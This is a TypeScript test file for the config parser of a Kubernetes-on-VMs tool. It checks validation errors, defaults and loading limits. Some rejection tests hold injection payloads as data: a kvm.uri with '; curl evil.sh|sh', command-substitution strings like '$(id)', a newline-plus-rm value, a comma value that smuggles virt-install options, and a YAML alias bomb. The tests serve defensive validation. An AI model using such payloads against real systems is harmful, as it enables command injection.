import { assert, assertEquals, assertThrows } from "./_test_asserts.ts";
import { ConfigError } from "../errors/mod.ts";
import { defaultConfig, toYamlObject } from "./mod.ts";
import { DEFAULT_CONFIG_TEXT, parseConfig } from "./parse.ts";
import { documentedKeys } from "./_schema.ts";

const opts = { file: "c.yaml", dir: "/tmp/dtk-test" };

/** Expected: [line, column, path, message, hint?] per issue, sorted by position. */
type Expected = [number, number, string, string, string?];

function issuesOf(text: string, options: { allowTestDrivers?: boolean } = {}): Expected[] {
  const error = assertThrows(
    () => parseConfig(text, { ...opts, allowTestDrivers: options.allowTestDrivers ?? false }),
    ConfigError,
  );
  return error.issues.map((i) => {
    const row: Expected = [i.line, i.column, i.path, i.message];
    if (i.hint) row.push(i.hint);
    return row;
  });
}

const VMS = `vms:
- name: vm1
  pod-cidr: 10.200.0.0/24
`;

const cases: { name: string; yaml: string; expected: Expected[] }[] = [
  {
    name: "unknown top-level key with suggestion",
    yaml: "virtt: kvm\n",
    expected: [[1, 1, "virtt", 'Unknown key "virtt"', 'did you mean "virt"?']],
  },
  {
    name: "unknown nested key with suggestion",
    yaml: "k8s:\n  clustercidr: 10.200.0.0/16\n",
    expected: [[
      2,
      3,
      "k8s.clustercidr",
      'Unknown key "clustercidr" in "k8s"',
      'did you mean "cluster-cidr"?',
    ]],
  },
  {
    name: "virt enum",
    yaml: "virt: xen\n",
    expected: [[
      1,
      7,
      "virt",
      '"virt" must be one of "kvm", "virtualbox", found "xen"',
      'expected one of: "kvm", "virtualbox", "vbox"',
    ]],
  },
  {
    name: "test driver refused without the test switch",
    yaml: "virt: test-nspawn\n",
    expected: [[
      1,
      7,
      "virt",
      '"virt" must be one of "kvm", "virtualbox", found "test-nspawn"',
      'expected one of: "kvm", "virtualbox", "vbox"',
    ]],
  },
  {
    name: "duplicate key",
    yaml: "virt: kvm\nvirt: virtualbox\n",
    expected: [[
      2,
      1,
      "",
      "Duplicate key: a key may appear only once in a map",
      "Remove or merge one of the two entries",
    ]],
  },
  {
    name: "YAML syntax error",
    yaml: "k8s:\n  cluster-cidr: [10.200.0.0/16\n",
    expected: [[
      2,
      17,
      "",
      'Invalid YAML: this "[" is never closed',
      'Close it with "]" (a plain value that starts with "[" must be quoted)',
    ]],
  },
  {
    name: "bool type",
    yaml: "k8s:\n  kube-proxy: maybe\n",
    expected: [[
      2,
      15,
      "k8s.kube-proxy",
      '"k8s.kube-proxy" must be true or false, found the string "maybe"',
    ]],
  },
  {
    name: "int type",
    yaml: "vms:\n- name: vm1\n  cpu: two\n",
    expected: [[3, 8, "vms[0].cpu", '"vms[0].cpu" must be a whole number, found the string "two"']],
  },
  {
    name: "cpu below 1",
    yaml: "vms:\n- name: vm1\n  cpu: 0\n",
    expected: [[3, 8, "vms[0].cpu", '"vms[0].cpu" must be between 1 and 256, found 0']],
  },
  {
    name: "memory too small",
    yaml: "vms:\n- name: vm1\n  mem: 512\n",
    expected: [[3, 8, "vms[0].mem", '"vms[0].mem" must be between 1024 and 1048576, found 512']],
  },
  {
    name: "disk cannot shrink",
    yaml: "vms:\n- name: vm1\n  disk: 20\n",
    expected: [[3, 9, "vms[0].disk", '"vms[0].disk" must be between 30 and 65536, found 20']],
  },
  {
    name: "section of the wrong type",
    yaml: "k8s: yes\n",
    expected: [[1, 6, "k8s", '"k8s" must be a map of keys, found the string "yes"']],
  },
  {
    name: "list of the wrong type",
    yaml: "vms: vm1\n",
    expected: [[1, 6, "vms", '"vms" must be a list, found the string "vm1"']],
  },
  {
    name: "invalid CIDR",
    yaml: "k8s:\n  cluster-cidr: 10.200.0.0/33\n",
    expected: [[
      2,
      17,
      "k8s.cluster-cidr",
      '"k8s.cluster-cidr" must be a CIDR such as "10.200.0.0/16", found "10.200.0.0/33"',
    ]],
  },
  {
    name: "CIDR with host bits",
    yaml: "k8s:\n  cluster-cidr: 10.200.1.0/16\n",
    expected: [[
      2,
      17,
      "k8s.cluster-cidr",
      '"k8s.cluster-cidr" has host bits set: "10.200.1.0/16"',
      'did you mean "10.200.0.0/16"?',
    ]],
  },
  {
    name: "cluster DNS outside the service CIDR",
    yaml: "k8s:\n  cluster-dns: 10.33.0.10\n",
    expected: [[
      2,
      16,
      "k8s.cluster-dns",
      '"k8s.cluster-dns" "10.33.0.10" is not inside the service CIDR "10.32.0.0/24"',
      "The DNS Service IP must come from k8s.service-cidr",
    ]],
  },
  {
    name: "cluster DNS on the kubernetes Service IP",
    yaml: "k8s:\n  cluster-dns: 10.32.0.1\n",
    expected: [[
      2,
      16,
      "k8s.cluster-dns",
      '"k8s.cluster-dns" "10.32.0.1" is reserved (the "kubernetes" Service IP)',
      "Use another address of the service CIDR, e.g. its 10th",
    ]],
  },
  {
    name: "invalid IP",
    yaml: "k8s:\n  cluster-dns: 10.32.0.300\n",
    expected: [[
      2,
      16,
      "k8s.cluster-dns",
      '"k8s.cluster-dns" must be an IPv4 address, found "10.32.0.300"',
    ]],
  },
  {
    name: "service CIDR overlaps cluster CIDR",
    yaml: "k8s:\n  service-cidr: 10.200.5.0/24\n  cluster-dns: 10.200.5.10\n",
    expected: [[
      2,
      17,
      "k8s.service-cidr",
      'The service CIDR "10.200.5.0/24" overlaps the cluster CIDR "10.200.0.0/16"',
      "Pods and Services need separate networks",
    ]],
  },
  {
    name: "pod CIDR outside the cluster CIDR",
    yaml: "vms:\n- name: vm1\n  pod-cidr: 10.201.0.0/24\n",
    expected: [[
      3,
      13,
      "vms[0].pod-cidr",
      '"vms[0].pod-cidr" "10.201.0.0/24" is not inside the cluster CIDR "10.200.0.0/16"',
    ]],
  },
  {
    name: "pod CIDRs overlap",
    yaml: "vms:\n- name: vm1\n  pod-cidr: 10.200.0.0/24\n- name: vm2\n  pod-cidr: 10.200.0.0/23\n",
    expected: [[
      5,
      13,
      "vms[1].pod-cidr",
      '"vms[1].pod-cidr" "10.200.0.0/23" overlaps "vms[0].pod-cidr"',
      "Give each VM its own pod subnet",
    ]],
  },
  {
    name: "cluster CIDR overlaps the VirtualBox host-only network",
    yaml: "virt: virtualbox\nk8s:\n  cluster-cidr: 192.168.0.0/16\n" +
      "vms:\n- name: vm1\n  pod-cidr: 192.168.200.0/24\n",
    expected: [[
      3,
      17,
      "k8s.cluster-cidr",
      '"k8s.cluster-cidr" "192.168.0.0/16" overlaps the host-only network "192.168.56.0/24"',
      "Choose a cluster network apart from vbox.host-only-network",
    ]],
  },
  {
    name: "duplicate VM names",
    yaml: "vms:\n- name: vm1\n  pod-cidr: 10.200.0.0/24\n- name: vm1\n  pod-cidr: 10.200.1.0/24\n",
    expected: [[4, 9, "vms[1].name", 'VM name "vm1" is used twice (also by "vms[0]")']],
  },
  {
    name: "VM name that is not a hostname",
    yaml: "vms:\n- name: my_vm\n",
    expected: [[
      2,
      9,
      "vms[0].name",
      '"vms[0].name" must be a valid hostname (lowercase letters, digits and "-", at most 63), found "my_vm"',
    ]],
  },
  {
    name: "VM without a name",
    yaml: "vms:\n- cpu: 2\n",
    expected: [[2, 3, "vms[0]", '"vms[0]" has no name']],
  },
  {
    name: "no VMs",
    yaml: "vms: []\n",
    expected: [[
      1,
      1,
      "vms",
      '"vms" is empty: a cluster needs at least one VM',
      "Add a VM, e.g. - name: vm1",
    ]],
  },
  {
    name: "VirtualBox with both network modes",
    yaml: "virt: vbox\nvbox:\n  host-network-interface: eth0\n  host-only-network: 192.168.56\n" +
      VMS,
    expected: [[
      3,
      27,
      "vbox.host-network-interface",
      'Set only one of "vbox.host-network-interface" (bridged) and "vbox.host-only-network" (host-only)',
      "Empty the one you do not use",
    ]],
  },
  {
    name: "VirtualBox host-only network that is not three octets",
    yaml: "virt: virtualbox\nvbox:\n  host-only-network: 192.168.56.0\n" + VMS,
    expected: [[
      3,
      22,
      "vbox.host-only-network",
      '"vbox.host-only-network" must be three octets such as "192.168.56", found "192.168.56.0"',
    ]],
  },
  {
    name: "unknown add-on",
    yaml: "addons:\n- name: cilum\n  enabled: true\n",
    expected: [[2, 9, "addons[0].name", 'Unknown add-on "cilum"', 'did you mean "cilium"?']],
  },
  {
    name: "two CNIs",
    yaml: "addons:\n- name: calico\n  enabled: true\n- name: cilium\n  enabled: true\n",
    expected: [[
      5,
      12,
      "addons[1].enabled",
      'Only one CNI may be enabled, found "calico" and "cilium"',
      "Disable one of them",
    ]],
  },
  {
    name: "CoreDNS before the CNI",
    yaml: "addons:\n- name: coredns\n  enabled: true\n- name: cilium\n  enabled: true\n",
    expected: [[
      2,
      9,
      "addons[0].name",
      'Add-on "coredns" comes before the CNI "cilium", but its pods need the pod network',
      'Move "cilium" to the top of "addons"',
    ]],
  },
  {
    name: "headlamp before nginx-gateway-fabric",
    yaml: "addons:\n- name: cilium\n  enabled: true\n- name: headlamp\n  enabled: true\n" +
      "- name: nginx-gateway-fabric\n  enabled: true\n",
    expected: [[
      4,
      9,
      "addons[1].name",
      'Add-on "headlamp" is installed before "nginx-gateway-fabric", which it needs',
      'Move "nginx-gateway-fabric" above "headlamp"',
    ]],
  },
  {
    name: "kubernetes-dashboard without its dependencies",
    yaml: "addons:\n- name: cilium\n  enabled: true\n- name: ingress-nginx\n  enabled: true\n" +
      "- name: kubernetes-dashboard\n  enabled: true\n",
    expected: [[
      6,
      9,
      "addons[2].name",
      'Add-on "kubernetes-dashboard" needs "cert-manager", which is not enabled',
      'Enable "cert-manager" above "kubernetes-dashboard"',
    ]],
  },
  {
    name: "ingress-nginx and nginx-gateway-fabric both take the controller's port 80",
    yaml: "addons:\n- name: cilium\n  enabled: true\n- name: ingress-nginx\n  enabled: true\n" +
      "- name: nginx-gateway-fabric\n  enabled: true\n",
    expected: [[
      7,
      12,
      "addons[2].enabled",
      'Add-ons "ingress-nginx" and "nginx-gateway-fabric" cannot both be enabled: both take port 80 on the controller node (ingress-nginx on the host network, NGINX Gateway Fabric by a host port)',
      'Disable one of them (headlamp needs "nginx-gateway-fabric", kubernetes-dashboard needs "ingress-nginx")',
    ]],
  },
  {
    name: "vcluster without a storage add-on",
    yaml: "addons:\n- name: cilium\n  enabled: true\n- name: vcluster\n  enabled: true\n",
    expected: [[
      4,
      9,
      "addons[1].name",
      'Add-on "vcluster" needs a storage add-on ("openebs" or "nfs-provisioner"), and none is enabled',
      'Enable "openebs" or "nfs-provisioner" above "vcluster": its PersistentVolumeClaim needs a default StorageClass',
    ]],
  },
  {
    name: "vcluster before its storage add-on",
    yaml: "addons:\n- name: cilium\n  enabled: true\n- name: vcluster\n  enabled: true\n" +
      "- name: nfs-provisioner\n  enabled: true\n",
    expected: [[
      4,
      9,
      "addons[1].name",
      'Add-on "vcluster" is installed before "nfs-provisioner", which it needs',
      'Move "nfs-provisioner" above "vcluster"',
    ]],
  },
  {
    name: "an audit policy that is not a Policy",
    yaml: "k8s:\n  audit-policy: |\n    apiVersion: v1\n    kind: ConfigMap\n",
    expected: [[
      2,
      17,
      "k8s.audit-policy",
      '"k8s.audit-policy" must be an "audit.k8s.io/v1" "Policy", found "v1 ConfigMap"',
      "Start it with apiVersion: audit.k8s.io/v1 and kind: Policy, or leave it empty for dtk's policy",
    ]],
  },
  {
    name: "an audit policy without rules",
    yaml:
      "k8s:\n  audit-policy: |\n    apiVersion: audit.k8s.io/v1\n    kind: Policy\n    rules: []\n",
    expected: [[
      2,
      17,
      "k8s.audit-policy",
      '"k8s.audit-policy" has no rules',
      "Add e.g. - level: Metadata",
    ]],
  },
  {
    name: "runtime-config that the apiserver would refuse",
    yaml: "k8s:\n  runtime-config: api/all=yes\n",
    expected: [[
      2,
      19,
      "k8s.runtime-config",
      '"k8s.runtime-config" must be comma-separated GROUP/VERSION[=true|false] items, found "api/all=yes"',
      "e.g. resource.k8s.io/v1beta2=true, or api/alpha=true",
    ]],
  },
  {
    name: "a relative resolv-conf",
    yaml: "k8s:\n  cluster-domain: cluster.local\n  resolv-conf: resolv.conf\n",
    expected: [[
      3,
      16,
      "k8s.resolv-conf",
      '"k8s.resolv-conf" must be an absolute path on the nodes, found "resolv.conf"',
      "e.g. /etc/resolv.conf, or /run/systemd/resolve/resolv.conf on guests with systemd-resolved",
    ]],
  },
  {
    name: "an empty resolv-conf (the kubelet's way to turn host DNS off) is refused too",
    yaml: 'k8s:\n  resolv-conf: ""\n',
    expected: [[
      2,
      16,
      "k8s.resolv-conf",
      '"k8s.resolv-conf" must be an absolute path on the nodes, found ""',
      "e.g. /etc/resolv.conf, or /run/systemd/resolve/resolv.conf on guests with systemd-resolved",
    ]],
  },
  {
    name: "ssl-passthrough on the wrong add-on",
    yaml: "addons:\n- name: cilium\n  enabled: true\n  ssl-passthrough: true\n",
    expected: [[
      4,
      20,
      "addons[0].ssl-passthrough",
      '"ssl-passthrough" applies only to "ingress-nginx"',
    ]],
  },
  {
    name: "external-dns without the host IP",
    yaml: "addons:\n- name: cilium\n  enabled: true\n- name: external-dns\n  enabled: true\n",
    expected: [[
      1,
      1,
      "dns.host-ip",
      'Add-on "external-dns" needs "dns.host-ip": the desktop address the guests reach the webhook on',
      "Set dns.host-ip, e.g. the libvirt bridge address 192.168.122.1",
    ]],
  },
  {
    name: "unknown containerized component",
    yaml: "k8s:\n  containerized-cplane: etcd,kube-scheduller\n",
    expected: [[
      2,
      25,
      "k8s.containerized-cplane",
      'Unknown control-plane component "kube-scheduller" in "k8s.containerized-cplane"',
      'did you mean "kube-scheduler"?',
    ]],
  },
  {
    name: "mirror enabled with the placeholder",
    yaml: "k8s:\n  containerd-mirror:\n    enabled: true\n",
    expected: [[
      2,
      3,
      "k8s.containerd-mirror.config",
      '"k8s.containerd-mirror.config" still holds the placeholder while the mirror is enabled',
      'Write the hosts.toml content, e.g. [host."http://192.168.0.49:8080"] with capabilities = ["pull", "resolve"]',
    ]],
  },
  {
    name: "bad Kubernetes version",
    yaml: "versions:\n  kubernetes: 1.35\n",
    expected: [[
      2,
      15,
      "versions.kubernetes",
      '"versions.kubernetes" must be a release version such as "v1.35.0", found "1.35"',
      "Write it as upstream tags the release",
    ]],
  },
  {
    name: "cloud image with VirtualBox",
    yaml: "virt: virtualbox\nvm:\n  template-source: cloud-image\n" + VMS,
    expected: [[
      3,
      20,
      "vm.template-source",
      '"vm.template-source" "cloud-image" needs "virt: kvm"',
      'Use "template-source: kickstart" with VirtualBox',
    ]],
  },
  {
    name: "VM named like the template",
    yaml: "vm:\n  template-vmname: vm1\n" + VMS,
    expected: [[
      4,
      9,
      "vms[0].name",
      'VM name "vm1" is the template\'s name ("vm.template-vmname")',
      "Give the VM or the template another name",
    ]],
  },
  {
    name: "bad cluster name",
    yaml: "cluster:\n  name: My Cluster\n",
    expected: [[
      2,
      9,
      "cluster.name",
      '"cluster.name" must be a DNS label (lowercase letters, digits and "-", at most 63), found "My Cluster"',
    ]],
  },
  {
    name: "mirror that is not a URL",
    yaml: "store:\n  mirrors: [mirror.example]\n",
    expected: [[
      2,
      13,
      "store.mirrors[0]",
      '"store.mirrors[0]" must be an http(s):// or file:// URL or an absolute folder, found "mirror.example"',
    ]],
  },
  {
    name: "kvm.uri with shell metacharacters (printed in doctor's fix commands)",
    yaml: "kvm:\n  uri: 'qemu:///system; curl evil.sh|sh'\n" + VMS,
    expected: [[
      2,
      8,
      "kvm.uri",
      '"kvm.uri" must be a libvirt URI such as "qemu:///system" or "qemu+ssh://user@host/system", found "qemu:///system; curl evil.sh|sh"',
      "driver[+transport]://[user@][host][:port]/path[?name=value&…]: no spaces, quotes, commas or shell characters",
    ]],
  },
  {
    name: "kvm.libvirt-network with a comma (injects virt-install --network options)",
    yaml: "kvm:\n  libvirt-network: default,type=direct,source=eth0\n" + VMS,
    expected: [[
      2,
      20,
      "kvm.libvirt-network",
      '"kvm.libvirt-network" must be a libvirt network name (letters, digits, ".", "_", "-", at most 64), found "default,type=direct,source=eth0"',
      "List the networks with: virsh net-list --all",
    ]],
  },
  {
    name: "unclosed flow sequence: at the [, not at the end of the file",
    yaml: "virt: kvm\naddons: [cilium, coredns\n\nvms:\n- name: vm1\n",
    expected: [[
      2,
      9,
      "",
      'Invalid YAML: this "[" is never closed',
      'Close it with "]" (a plain value that starts with "[" must be quoted)',
    ]],
  },
  {
    name: "unclosed flow map inside a block map, and a sequence inside it",
    yaml: "k8s:\n  containerd-mirror: {name: x, config: [a\ncluster:\n  name: a\n",
    expected: [
      [
        2,
        22,
        "",
        'Invalid YAML: this "{" is never closed',
        'Close it with "}" (a plain value that starts with "{" must be quoted)',
      ],
      [
        2,
        40,
        "",
        'Invalid YAML: this "[" is never closed',
        'Close it with "]" (a plain value that starts with "[" must be quoted)',
      ],
    ],
  },
  {
    name: "unclosed double quote: at the quote",
    yaml: 'cluster:\n  name: "dtk\nvms: []\n',
    expected: [[
      2,
      9,
      "",
      'Invalid YAML: this "\\"" is never closed',
      "End the value with the same quote",
    ]],
  },
  {
    name: "several problems at once, sorted by position",
    yaml: "virt: kvmm\nk8s:\n  kube-proxy: 3\nvms:\n- name: A\n",
    expected: [
      [
        1,
        7,
        "virt",
        '"virt" must be one of "kvm", "virtualbox", found "kvmm"',
        'did you mean "kvm"?',
      ],
      [3, 15, "k8s.kube-proxy", '"k8s.kube-proxy" must be true or false, found the number 3'],
      [
        5,
        9,
        "vms[0].name",
        '"vms[0].name" must be a valid hostname (lowercase letters, digits and "-", at most 63), found "A"',
      ],
    ],
  },
];

for (const c of cases) {
  Deno.test(`config: broken: ${c.name}`, () => {
    assertEquals(issuesOf(c.yaml), c.expected);
  });
}

Deno.test("config: the corpus has at least 25 broken configs", () => {
  assert(cases.length >= 25, `only ${cases.length}`);
});

Deno.test("config: the built-in default equals the original's defaults", () => {
  const config = defaultConfig({ dir: "/x" });
  assertEquals(config.virt, "kvm");
  assertEquals(config.vms.map((v) => [v.name, v.cpu, v.mem, v.ip, v.disk, v.podCidr]), [
    ["vm1", 3, 8192, 200, undefined, "10.200.0.0/24"],
    ["vm2", 3, 8192, 201, undefined, "10.200.1.0/24"],
    ["vm3", 3, 8192, 202, undefined, "10.200.2.0/24"],
  ]);
  assertEquals(
    config.addons.filter((a) => a.enabled).map((a) => a.name),
    [
      "cilium",
      "coredns",
      "nginx-gateway-fabric",
      "cert-manager",
      "kube-prometheus-stack",
      "headlamp",
      "metrics-server",
      "openebs",
    ],
  );
  assertEquals(config.k8s.clusterCidr, "10.200.0.0/16");
  assertEquals(config.k8s.clusterDns, "10.32.0.10");
  assertEquals(config.k8s.serviceCidr, "10.32.0.0/24");
  assertEquals(config.k8s.kubeProxy, false);
  assertEquals(config.k8s.containerizedCplane, []);
  assertEquals(config.vbox.hostOnlyNetwork, "192.168.56");
  assertEquals(config.vm, {
    linux: "alma9",
    createTemplate: true,
    templateVmname: "alma9.7",
    templateSource: "kickstart",
  });
  assertEquals(config.versions.kubernetes, "v1.35.0");
  assertEquals(config.source, { file: "<built-in>", dir: "/x", builtIn: true });
});

Deno.test("config: kvm.uri and kvm.libvirt-network take what libvirt writes, nothing a shell reads", () => {
  const good = [
    "qemu:///system",
    "qemu:///session",
    "qemu+ssh://root@kvm.lab:2222/system",
    "qemu+ssh://user@[fe80::1]/system?keyfile=/home/u/.ssh/id&no_verify=1",
    "qemu+unix:///system?socket=/run/libvirt/libvirt-sock",
    "test:///default",
  ];
  for (const uri of good) {
    const c = parseConfig(`kvm:\n  uri: '${uri}'\n${VMS}`, { ...opts, allowTestDrivers: false });
    assertEquals(c.config.kvm.uri, uri);
  }
  const bad = [
    "qemu:///system`id`",
    "qemu:///system $(id)",
    "qemu:///system'",
    'qemu:///system"',
    "qemu:///system,x",
    "qemu+ssh://a;b@host/system",
    "qemu:///system\nrm",
    "qemu://",
    "/system",
    "qemu:///system?a=1&&b",
  ];
  for (const uri of bad) {
    const issues = issuesOf(`kvm:\n  uri: ${JSON.stringify(uri)}\n${VMS}`);
    assertEquals(issues.map((i) => i[2]), ["kvm.uri"], uri);
  }
  for (const name of ["default", "dtk-net_2.lab"]) {
    const c = parseConfig(`kvm:\n  libvirt-network: ${name}\n${VMS}`, { ...opts });
    assertEquals(c.config.kvm.libvirtNetwork, name);
  }
  for (const name of ["a,b", "a b", "-x", "a;b", "a/b", "a=b", "x".repeat(65), "$(id)"]) {
    const issues = issuesOf(`kvm:\n  libvirt-network: ${JSON.stringify(name)}\n${VMS}`);
    assertEquals(issues.map((i) => i[2]), ["kvm.libvirt-network"], name);
  }
});

Deno.test("config: an empty file means every default", () => {
  const { config } = parseConfig("", opts);
  const builtIn = defaultConfig({ dir: opts.dir });
  assertEquals({ ...config, source: builtIn.source }, builtIn);
});

Deno.test("config: aliases, YAML lists and derived defaults", () => {
  const { config } = parseConfig(
    "virt: vbox\nk8s:\n  containerized-cplane: [etcd, kube-apiserver]\nvms:\n- name: a\n- name: b\n  cpu: 2\n",
    opts,
  );
  assertEquals(config.virt, "virtualbox");
  assertEquals(config.k8s.containerizedCplane, ["etcd", "kube-apiserver"]);
  assertEquals(config.vms.map((v) => [v.name, v.cpu, v.ip, v.podCidr]), [
    ["a", 3, 200, "10.200.0.0/24"],
    ["b", 2, 201, "10.200.1.0/24"],
  ]);
});

Deno.test("config: containerized-cplane all", () => {
  const { config } = parseConfig("k8s:\n  containerized-cplane: all\n", opts);
  assertEquals(config.k8s.containerizedCplane.length, 5);
});

Deno.test("config: bridged VirtualBox drops the host-only default", () => {
  const { config } = parseConfig("virt: virtualbox\nvbox:\n  host-network-interface: eth0\n", opts);
  assertEquals(config.vbox.hostNetworkInterface, "eth0");
  assertEquals(config.vbox.hostOnlyNetwork, undefined);
});

Deno.test("config: the test driver only with the test switch", () => {
  const { config } = parseConfig("virt: test-nspawn\ntest-nspawn:\n  nodes: 3\n", {
    ...opts,
    allowTestDrivers: true,
  });
  assertEquals(config.virt, "test-nspawn");
  assertEquals(config.testNspawn, { nodes: 3 });
});

Deno.test("config: legacy keys written by the original are ignored with a warning", () => {
  const { warnings } = parseConfig("cluster:\n  admin-kubeconfig: /x/admin.kubeconfig\n", opts);
  assertEquals(warnings.map((w) => [w.line, w.path]), [[2, "cluster.admin-kubeconfig"]]);
});

Deno.test("config: no CNI and no kube-proxy warns", () => {
  const { warnings } = parseConfig("addons:\n- name: coredns\n  enabled: true\n", opts);
  assertEquals(warnings.map((w) => w.path), ["addons"]);
});

Deno.test("config: vcluster after a storage add-on, a valid audit policy and runtime-config pass", () => {
  const { config } = parseConfig(
    "addons:\n- name: cilium\n  enabled: true\n- name: openebs\n  enabled: true\n" +
      "- name: vcluster\n  enabled: true\n" +
      "k8s:\n  audit-policy: |\n    apiVersion: audit.k8s.io/v1\n    kind: Policy\n" +
      "    rules:\n    - level: Metadata\n  runtime-config: api/alpha=true,resource.k8s.io/v1beta2\n",
    opts,
  );
  assertEquals(config.k8s.runtimeConfig, "api/alpha=true,resource.k8s.io/v1beta2");
  assert(config.k8s.auditPolicy?.includes("level: Metadata"));
  assertEquals(defaultConfig().k8s.auditPolicy, undefined);
  assertEquals(defaultConfig().k8s.runtimeConfig, undefined);
});

Deno.test("config: k8s.resolv-conf defaults to /etc/resolv.conf; an absolute path is kept and shown", () => {
  assertEquals(defaultConfig().k8s.resolvConf, "/etc/resolv.conf");
  assertEquals(
    parseConfig("k8s:\n  resolv-conf:\n", opts).config.k8s.resolvConf,
    "/etc/resolv.conf",
  );
  const { config } = parseConfig(
    "k8s:\n  resolv-conf: /run/systemd/resolve/resolv.conf\n",
    opts,
  );
  assertEquals(config.k8s.resolvConf, "/run/systemd/resolve/resolv.conf");
  const shown = toYamlObject(config)["k8s"] as Record<string, unknown>;
  assertEquals(shown["resolv-conf"], "/run/systemd/resolve/resolv.conf");
});

Deno.test("config: config show prints every key of the schema", () => {
  const shown = toYamlObject(defaultConfig());
  const optional = ["ssl-passthrough", "chart-version"]; // shown only where they apply
  const missing = documentedKeys().map((k) => k.path).filter((path) => {
    let at: unknown = shown;
    for (const part of path.split(".")) {
      const [key = "", list] = part.split("[]");
      if (optional.includes(key)) return false;
      if (at === null || typeof at !== "object" || !(key in at)) return true;
      at = (at as Record<string, unknown>)[key];
      if (list !== undefined) at = (at as unknown[])[0];
    }
    return false;
  });
  assertEquals(missing, []);
});

Deno.test("config: numeric versions keep their text", () => {
  const { config } = parseConfig("versions:\n  containerd: 2.1.4\n", opts);
  assertEquals(config.versions.containerd, "2.1.4");
});

Deno.test("config: the default config.yaml documents every key it sets", () => {
  for (const { path } of documentedKeys()) {
    const leaf = path.split(/[.[\]]+/).filter(Boolean).pop()!;
    if (["chart-version", "ssl-passthrough"].includes(leaf)) continue;
    assert(DEFAULT_CONFIG_TEXT.includes(`${leaf}:`), `config.yaml lacks ${path}`);
  }
});

Deno.test("config: the README's config reference lists every key", async () => {
  const readme = await Deno.readTextFile(new URL("../../README.md", import.meta.url));
  const missing = documentedKeys().map((k) => k.path).filter((path) =>
    !readme.includes(`\`${path}\``)
  );
  assertEquals(missing, []);
});

Deno.test("config: the built-in snapshot is what parsing config.yaml gives", async () => {
  const { parseBuiltIn } = await import("./_default_config_gen.ts");
  const { BUILT_IN_CONFIG } = await import("./_default_config.ts");
  // deepStrictEqual tells a key holding undefined from a missing key: the shape must match too.
  assertEquals(
    BUILT_IN_CONFIG,
    parseBuiltIn(),
    "lib/config/_default_config.ts is out of date: run deno task gen",
  );
});

Deno.test("config: without a config file, dtk loads the built-in default, a fresh copy each time", async () => {
  const { loadConfig } = await import("./mod.ts");
  const cwd = await Deno.makeTempDir();
  try {
    const env = () => undefined;
    const first = await loadConfig({ cwd, env });
    assertEquals(first.config.source, { file: "<built-in>", dir: cwd, builtIn: true });
    assertEquals(first.warnings, []);
    first.config.vms[0]!.name = "changed";
    const second = await loadConfig({ cwd, env });
    assertEquals(second.config.vms[0]!.name, "vm1");
    const parsed = parseConfig(DEFAULT_CONFIG_TEXT, {
      file: "<built-in>",
      dir: cwd,
      builtIn: true,
    });
    assertEquals(second.config, parsed.config);
    // A file in the folder wins over the built-in default.
    await Deno.writeTextFile(`${cwd}/config.yaml`, "cluster:\n  name: other\n");
    const third = await loadConfig({ cwd, env });
    assertEquals(third.config.cluster.name, "other");
    assertEquals(third.config.source.file, `${cwd}/config.yaml`);
  } finally {
    await Deno.remove(cwd, { recursive: true });
  }
});

Deno.test("config: a file over 1 MiB, or one that is not a regular file, is refused unread", async () => {
  const { loadConfig, MAX_CONFIG_BYTES } = await import("./load.ts");
  const { UsageError } = await import("../errors/mod.ts");
  const cwd = await Deno.makeTempDir();
  try {
    const env = () => undefined;
    // A 1.7 MB file of aliases printed 35 MB of errors: it is not parsed at all now.
    const line = "a: &a [*a, *a, *a, *a, *a, *a, *a, *a]\n";
    await Deno.writeTextFile(`${cwd}/big.yaml`, line.repeat(Math.ceil(1.7e6 / line.length)));
    const big = await loadConfig({ cwd, env, path: "big.yaml" }).then(() => undefined, (e) => e);
    assert(big instanceof UsageError, String(big));
    assertEquals(big.message, 'Config file "big.yaml" is larger than 1 MiB');
    // Exactly at the limit is still read.
    await Deno.writeTextFile(`${cwd}/config.yaml`, "#".repeat(MAX_CONFIG_BYTES - 1) + "\n");
    assertEquals((await loadConfig({ cwd, env })).config.cluster.name, "dtk");
    await Deno.writeTextFile(`${cwd}/config.yaml`, "#".repeat(MAX_CONFIG_BYTES) + "\n");
    const local = await loadConfig({ cwd, env }).then(() => undefined, (e) => e);
    assert(local instanceof UsageError && /larger than 1 MiB/.test(local.message));
    // A FIFO would block the read forever.
    const fifo = `${cwd}/fifo.yaml`;
    const made = await new Deno.Command("mkfifo", { args: [fifo] }).output();
    assert(made.success);
    const piped = await loadConfig({ cwd, env, path: fifo }).then(() => undefined, (e) => e);
    assert(piped instanceof UsageError, String(piped));
    assertEquals(piped.message, `Config path is not a regular file: ${JSON.stringify(fifo)}`);
  } finally {
    await Deno.remove(cwd, { recursive: true });
  }
});
